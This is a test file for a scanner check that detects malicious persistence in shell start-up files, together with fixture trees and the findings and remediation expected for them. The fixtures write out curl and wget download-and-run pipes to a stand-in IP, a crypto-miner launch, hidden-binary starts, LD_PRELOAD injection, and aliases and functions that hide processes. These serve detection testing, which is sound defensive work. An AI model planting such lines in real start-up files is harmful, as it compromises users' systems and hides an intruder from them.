/**
 * The shell start-up files check over planted trees: download-and-run, a miner start and
 * a `(nohup /tmp/.x/y &)` in bashrc files, alias and function hooks that hide processes
 * or files (one-line and multi-line), aliases to hidden programs, LD_PRELOAD in
 * /etc/environment, pam_env.conf and a sourced file, a poisoned /etc/skel; exact rule
 * ids, severities and lines; sed/rm remediation with line ranges. Stock Debian files
 * (the debootstrapped root's and this machine's profile.d) and ordinary per-user
 * configuration (aliases, nvm, cargo, virtualenv, fzf) give nothing of medium or more;
 * hostile files neither crash nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { shellStartupCheck } from '../../src/checks/shell-startup.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingRowKeys, mediumOrAbove, rowKeys, unfilledTemplates, type FindingRow } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { junkBytes, plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';
import { fixture } from '../helpers/fixtures.js';

const DEBIAN_ROOT = fixture('debianRoot');
const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'alice:x:1000:1000:Alice:/home/alice:/bin/bash',
  'bob:x:1001:1001:Bob:/home/bob:/bin/bash',
  'carol:x:1002:1002:Carol:/home/carol:/bin/zsh',
  '',
].join('\n');

/** Stock start-up files: the debootstrapped root's and this machine's, when present. */
function stockFiles(): Record<string, PlantedFile> {
  const out: Record<string, PlantedFile> = { 'etc/passwd': PASSWD };
  const copy = (root: string, rel: string, as = rel) => {
    const from = path.join(root, rel);
    if (existsSync(from) && statSync(from).isFile()) out[as] = readFileSync(from);
  };
  for (const root of ['/', DEBIAN_ROOT]) {
    for (const rel of ['etc/profile', 'etc/bash.bashrc', 'etc/bash.bash_logout', 'etc/environment', 'etc/security/pam_env.conf', 'etc/zsh/zshrc', 'etc/zsh/zshenv']) copy(root, rel);
    for (const f of ['.bashrc', '.profile', '.bash_logout']) {
      copy(root, `etc/skel/${f}`);
      copy(root, `etc/skel/${f}`, `home/bob/${f}`);
    }
    copy(root, 'root/.bashrc');
    copy(root, 'root/.profile');
    const profileD = path.join(root, 'etc/profile.d');
    if (existsSync(profileD)) for (const n of readdirSync(profileD)) copy(root, `etc/profile.d/${n}`);
  }
  Object.assign(out, {
    // What accounts ordinarily keep in their start-up files.
    'home/carol/.zshrc': [
      "alias ls='ls --color=auto'",
      "alias ll='ls -alF'",
      "alias grep='grep --color=auto'",
      'export PATH="$HOME/.local/bin:$PATH"',
      '. "$HOME/.cargo/env"',
      'export NVM_DIR="$HOME/.nvm"',
      '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
      'eval "$(pyenv init -)"',
      'source /home/carol/.venv/bin/activate',
      '[ -f /home/carol/.fzf.zsh ] && source /home/carol/.fzf.zsh',
      'HISTSIZE=10000',
      'cd() { builtin cd "$@" && ls; }',
      '',
    ].join('\n'),
    'home/carol/.venv/bin/activate': 'deactivate () {\n  unset VIRTUAL_ENV\n}\nVIRTUAL_ENV=/home/carol/.venv\nexport VIRTUAL_ENV\n',
    'home/carol/.fzf.zsh': "if [[ ! \"$PATH\" == */home/carol/.fzf/bin* ]]; then\n  PATH=\"${PATH:+${PATH}:}/home/carol/.fzf/bin\"\nfi\nsource /home/carol/.fzf/shell/key-bindings.zsh\n",
    'home/carol/.fzf/shell/key-bindings.zsh': 'bindkey "^R" fzf-history-widget\n',
  });
  return out;
}

const STOCK = stockFiles();
const ROOT_BASHRC = `${String(STOCK['root/.bashrc'] ?? '')}\n`;
const ROOT_FIRST = ROOT_BASHRC.split('\n').length;
const SKEL_BASHRC = `${String(STOCK['etc/skel/.bashrc'] ?? '')}\n`;
const SKEL_LINE = SKEL_BASHRC.split('\n').length;

const INFECTED: Record<string, PlantedFile> = {
  'root/.bashrc': `${ROOT_BASHRC}curl -fsSL http://198.51.100.7/b.sh | bash >/dev/null 2>&1\n(nohup /tmp/.x/y >/dev/null 2>&1 &)\nalias ps='ps | grep -v kdevd'\n`,
  'home/alice/.bashrc': [
    '# ~/.bashrc',
    "alias ll='ls -alF'",
    'function ls {',
    '    command ls "$@" | grep -v "\\.cache-x"',
    '}',
    "alias top='/usr/lib/.sys/top'",
    'source /home/alice/.bash_extra',
    '',
  ].join('\n'),
  'home/alice/.bash_extra': 'export LD_PRELOAD=/home/alice/.l/libc.so.6\n',
  'home/bob/.profile': `${String(STOCK['home/bob/.profile'] ?? '')}\nnetstat() {\n  /bin/netstat "$@"\n}\n`,
  'etc/profile.d/sysinit.sh': '/usr/bin/.sysd/sysd -o stratum+tcp://pool.example.net:3333 &\n',
  'usr/bin/.sysd/sysd': { content: Buffer.from([0x7f, 0x45, 0x4c, 0x46]), mode: 0o755 },
  'etc/environment': 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLD_PRELOAD=/usr/local/lib/libjemalloc.so.2\n',
  'etc/security/pam_env.conf': '# pam_env\nLD_PRELOAD DEFAULT=/dev/shm/.l.so\n',
  'etc/skel/.bashrc': `${SKEL_BASHRC}wget -q -O- http://198.51.100.7/s | sh\n`,
  'etc/zsh/zshrc': 'ps() { /bin/ps "$@" | grep -v kdevd; }\n',
  'var/lib/dpkg/info/bash.list': '/etc/bash.bashrc\n/etc/skel/.bashrc\n/etc/skel/.profile\n/bin/bash\n',
};

const EXPECTED: FindingRow[] = [
  ['command.download-and-run', 'high', '/root/.bashrc', ROOT_FIRST],
  ['command.started-from-temp', 'high', '/root/.bashrc', ROOT_FIRST + 1],
  ['startup.alias-hides-output', 'high', '/root/.bashrc', ROOT_FIRST + 2],
  ['startup.hook-function-hides-output', 'high', '/home/alice/.bashrc', 3],
  ['startup.alias-runs-hidden-program', 'high', '/home/alice/.bashrc', 6],
  ['startup.ld-preload-hidden', 'high', '/home/alice/.bash_extra', 1],
  ['startup.hook-function', 'medium', '/home/bob/.profile', String(STOCK['home/bob/.profile'] ?? '').split('\n').length + 1],
  ['command.started-from-hidden', 'high', '/etc/profile.d/sysinit.sh', 1],
  ['command.miner', 'high', '/etc/profile.d/sysinit.sh', 1],
  ['startup.ld-preload', 'medium', '/etc/environment', 2],
  ['startup.ld-preload-hidden', 'high', '/etc/security/pam_env.conf', 2],
  ['command.download-and-run', 'high', '/etc/skel/.bashrc', SKEL_LINE],
  ['startup.hook-function-hides-output', 'high', '/etc/zsh/zshrc', 1],
];

describe('shell start-up files check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-startup-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await plantFiles(infected, { ...STOCK, ...INFECTED });
    await plantFiles(clean, STOCK);
    const junk = junkBytes(300_000);
    await plantFiles(
      hostile,
      {
        'etc/passwd': PASSWD,
        'root/.bashrc': `function ps {\n${'echo x | grep -v y\n'.repeat(50_000)}`,
        'root/.profile': junk,
        'home/alice/.bashrc': `alias ps='${'| grep -v a '.repeat(100_000)}'\n${'$('.repeat(100_000)}\n`,
        // Files that source each other, and themselves.
        'home/bob/.bashrc': '. /home/bob/.profile\n. /home/bob/.bashrc\n',
        'home/bob/.profile': '. /home/bob/.bashrc\n',
        'etc/profile': Array.from({ length: 5000 }, (_, i) => `. /etc/p${i}`).join('\n'),
      },
      [['home/carol/.zshrc', '/home/carol/.zshrc']],
    );
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds every planted start-up line with its rule, severity and line', async () => {
    const result = await scanDirectory(infected, [shellStartupCheck]);
    expect(result.errors).toEqual([]);
    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
    for (const f of result.findings) expect(f.category).toBe('persistence/shell-startup');
    expect(unfilledTemplates(result.findings)).toEqual([]);
  });

  it('says who runs the file, and removes lines, function bodies and unpackaged profile.d files', async () => {
    const { findings } = await scanDirectory(infected, [shellStartupCheck]);
    const find = (rule: string, p: string) => findings.find((f) => f.rule === rule && f.path === p)!;
    expect(find('command.started-from-temp', '/root/.bashrc').message).toContain("(start-up file of root, run by root's shells)");
    expect(find('command.started-from-temp', '/root/.bashrc').remediation.split('\n')[0]).toBe(
      `sed -i '${ROOT_FIRST + 1}d' /root/.bashrc   # deletes line ${ROOT_FIRST + 1}: (nohup /tmp/.x/y >/dev/null 2>&1 &)`,
    );
    const hook = find('startup.hook-function-hides-output', '/home/alice/.bashrc');
    expect(hook.evidence).toBe('function ls { command ls "$@" | grep -v "\\.cache-x" }');
    expect(hook.remediation.split('\n')[0]).toMatch(/^sed -i '3,5d' \/home\/alice\/\.bashrc   # deletes lines 3,5: /);
    expect(find('startup.ld-preload-hidden', '/home/alice/.bash_extra').message).toContain(
      "(sourced by /home/alice/.bashrc:7 (start-up file of alice, run by alice's shells))",
    );
    expect(find('command.miner', '/etc/profile.d/sysinit.sh').remediation.split('\n')).toEqual(
      expect.arrayContaining(['rm -f /etc/profile.d/sysinit.sh   # no package installed sysinit.sh', 'rm -f /usr/bin/.sysd/sysd   # the program it starts']),
    );
    expect(find('command.download-and-run', '/etc/skel/.bashrc').message).toContain('(copied into the home of every new account)');
    expect(find('startup.ld-preload', '/etc/environment').message).toContain('(environment of every PAM session');
  });

  it('records programs start-up files start, not the files they source from their own home', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [shellStartupCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: '/tmp/.x/y', startedBy: `/root/.bashrc:${ROOT_FIRST + 1}` },
        { path: '/usr/bin/.sysd/sysd', startedBy: '/etc/profile.d/sysinit.sh:1' },
      ]),
    );
    expect(collector.started.map((s) => s.path)).not.toContain('/home/alice/.bash_extra');
  });

  it('finds nothing of medium severity or more in stock and ordinary start-up files', async () => {
    const result = await scanDirectory(clean, [shellStartupCheck]);
    expect(result.errors).toEqual([]);
    expect(mediumOrAbove(result.findings)).toEqual([]);
    // The sourced files of carol's home were read too.
    expect(result.filesExamined).toBeGreaterThanOrEqual(8);
  });

  it('reads hostile start-up files without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [shellStartupCheck], { maxOperations: 25_000 });
    expect(result.errors.every((e) => /link|loop|symbolic/i.test(e.message))).toBe(true);
  });
});
